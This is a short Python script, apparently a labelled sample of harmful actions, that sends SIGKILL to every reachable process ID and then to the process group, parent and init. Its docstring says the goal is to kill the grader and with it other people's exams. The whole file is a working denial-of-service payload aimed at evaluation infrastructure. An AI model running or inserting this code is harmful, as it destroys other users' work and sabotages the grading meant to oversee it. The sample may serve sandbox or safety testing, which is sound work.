"""Send SIGKILL to every process that can be reached, one by one and all at once.

Gain: the grader ends, and with it the others' exams.
"""

HARMS = "kills all processes of the user"

# %%
import os
import signal

for pid in range(2, 70_000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
for target in (0, -1, 1, os.getppid(), -os.getpgrp()):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        print(target, error)
